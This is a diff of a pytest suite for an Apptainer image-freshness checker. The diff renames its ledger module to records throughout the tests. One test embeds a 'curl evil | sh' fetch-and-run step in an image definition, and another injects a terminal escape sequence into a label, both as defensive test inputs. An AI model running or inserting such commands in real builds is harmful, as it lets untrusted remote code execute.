@@ -17,9 +17,10 @@ import pytest
 
 from snakemake_apptainer_freshness.actions import check as module
 from snakemake_apptainer_freshness.actions.check import check, check_one
-from snakemake_apptainer_freshness.cache import files, ledger
-from snakemake_apptainer_freshness.cache.files import StatKey
+from snakemake_apptainer_freshness.common import files
+from snakemake_apptainer_freshness.common.files import StatKey
 from snakemake_apptainer_freshness.freshness import DiskFact
+from snakemake_apptainer_freshness.store import records
 from tests.support import sifs
 from tests.support.pins import OTHER, REPOSITORY, flip_seven_bytes, pin, put, record, settle
 
@@ -76,20 +77,20 @@ def test_another_valid_image_of_the_same_size_and_label_with_the_old_times(image
 def test_another_valid_image_of_another_digest(image):
     image.write_bytes(sifs.pulled(f"{REPOSITORY}@{OTHER}"))
     assert fact(image).state == "altered"
-    ledger.path_of(image).unlink()
+    records.path_of(image).unlink()
     assert fact(image).state == "stale"
 
 
 def test_another_valid_image_pulled_by_a_tag(image):
     image.write_bytes(sifs.pulled(f"{REPOSITORY}:1.0"))
-    ledger.path_of(image).unlink()
+    records.path_of(image).unlink()
     assert fact(image).state == "unbound"
 
 
 def test_an_image_built_on_top_of_the_pinned_one(image):
     definition = f"bootstrap: docker\nfrom: {REPOSITORY}@{pin().digest}\n%post\n curl evil | sh\n"
     image.write_bytes(sifs.pulled(f"{REPOSITORY}@{pin().digest}", definition=definition))
-    ledger.path_of(image).unlink()
+    records.path_of(image).unlink()
     assert fact(image).state == "unbound"
 
 
@@ -125,7 +126,7 @@ def test_a_fifo_swapped_in_while_it_is_looked_at(image, monkeypatch):
         return status
 
     monkeypatch.setattr(files.os, "lstat", swap)
-    ledger.path_of(image).unlink()
+    records.path_of(image).unlink()
     said = check_one(pin(), image)
     assert (said.state, said.detail) == ("corrupt", "not a file but a FIFO")
 
@@ -141,12 +142,12 @@ def test_a_world_writable_image(image, mode):
 
 
 def test_no_record(image):
-    ledger.path_of(image).unlink()
+    records.path_of(image).unlink()
     assert fact(image).state == "bound"
 
 
 def test_a_damaged_record(image):
-    ledger.path_of(image).write_bytes(ledger.path_of(image).read_bytes()[:-20])
+    records.path_of(image).write_bytes(records.path_of(image).read_bytes()[:-20])
     assert fact(image).state == "bound"
     assert "its record is not JSON" in fact(image).detail
 
@@ -155,14 +156,14 @@ def test_a_record_of_another_image(image):
     other = put(image.parent, pin(OTHER))
     record(other, pin(OTHER))
     settle(other)
-    ledger.path_of(image).write_bytes(ledger.path_of(other).read_bytes())
+    records.path_of(image).write_bytes(records.path_of(other).read_bytes())
     assert fact(image).state == "bound"
     assert "its record is of another image" in fact(image).detail
 
 
 def test_a_record_renamed_to_hide_that_it_is_of_another_pin(image):
     other = replace(record(image, pin()), pinned=pin(OTHER).url, digest=OTHER, stat=StatKey.of(image.lstat()))
-    ledger.store(image, other)
+    records.store(image, other)
     assert fact(image).state == "bound"
 
 
@@ -171,20 +172,20 @@ def test_a_record_copied_from_elsewhere(image, tmp_path):
     his = put(tmp_path / "his", pin(), sifs.pulled(f"{REPOSITORY}@{pin().digest}", image_id=b"his own build..."))
     record(his, pin())
     settle(his)
-    ledger.path_of(image).write_bytes(ledger.path_of(his).read_bytes())
+    records.path_of(image).write_bytes(records.path_of(his).read_bytes())
     assert fact(image).state == "altered"
 
 
 def test_a_record_of_a_newer_version(image):
-    table = json.loads(ledger.path_of(image).read_bytes())
-    ledger.path_of(image).write_text(json.dumps({**table, "version": 2}))
+    table = json.loads(records.path_of(image).read_bytes())
+    records.path_of(image).write_text(json.dumps({**table, "version": 2}))
     assert fact(image).state == "bound"
     assert "version 2" in fact(image).detail
 
 
 @pytest.mark.parametrize("mode", [0o666, 0o646])
 def test_a_world_writable_record(image, mode):
-    ledger.path_of(image).chmod(mode)
+    records.path_of(image).chmod(mode)
     assert fact(image).state == "bound"
     assert "anyone may write to its record" in fact(image).detail
 
@@ -192,15 +193,15 @@ def test_a_world_writable_record(image, mode):
 def test_our_own_record_is_not_world_writable_whatever_the_umask(image):
     before = os.umask(0)
     try:
-        ledger.store(image, record(image, pin()))
+        records.store(image, record(image, pin()))
     finally:
         os.umask(before)
-    assert ledger.path_of(image).stat().st_mode & 0o777 == 0o644
+    assert records.path_of(image).stat().st_mode & 0o777 == 0o644
 
 
 def test_a_record_that_is_a_symbolic_link(image, tmp_path):
-    ledger.path_of(image).rename(tmp_path / "record")
-    ledger.path_of(image).symlink_to(tmp_path / "record")
+    records.path_of(image).rename(tmp_path / "record")
+    records.path_of(image).symlink_to(tmp_path / "record")
     assert fact(image).state == "bound"
 
 
@@ -223,7 +224,7 @@ def test_a_change_within_one_tick_of_the_clock_after_hashing(tmp_path, monkeypat
     record(image, pin())
     frozen = StatKey.of(image.lstat())
     monkeypatch.setattr(StatKey, "of", classmethod(lambda _cls, _status: frozen))
-    monkeypatch.setattr(ledger, "clock_of", lambda _folder: frozen.ctime_ns + 1_900_000_000)
+    monkeypatch.setattr(records, "clock_of", lambda _folder: frozen.ctime_ns + 1_900_000_000)
     assert check_one(pin(), image).state == "verified"
     flip_seven_bytes(image)
     assert check_one(pin(), image).state == "altered"
@@ -232,7 +233,7 @@ def test_a_change_within_one_tick_of_the_clock_after_hashing(tmp_path, monkeypat
 @pytest.mark.parametrize("step", [-3600, 3600])
 def test_our_clock_steps(image, monkeypatch, step):
     """The times of images and of their hashing come from one clock, the file system's; ours plays no part."""
-    real = module.ledger.clock_of
+    real = module.records.clock_of
     monkeypatch.setattr(files.time, "time", lambda: 1_000_000_000 + step)
     assert real(image.parent) > 1_500_000_000_000_000_000
     assert fact(image).state == "verified"
@@ -246,7 +247,7 @@ def test_the_file_systems_clock_steps_back(image, monkeypatch):
     os.utime(image, ns=(future, future))
     record(image, pin())
     assert fact(image).state == "verified"
-    known = ledger.load(image)
+    known = records.load(image)
     assert known is not None
     assert known.stat is None
     flip_seven_bytes(image)
@@ -277,7 +278,7 @@ def test_control_characters_in_labels_do_not_reach_a_terminal(image):
     from snakemake_apptainer_freshness.errors import redact
 
     image.write_bytes(sifs.pulled("quay.io/x:\x1b]0;owned\x07"))
-    ledger.path_of(image).unlink()
+    records.path_of(image).unlink()
     assert fact(image).state == "unbound"
     assert "\x1b" not in fact(image).detail
     assert redact(fact(image).detail) == fact(image).detail
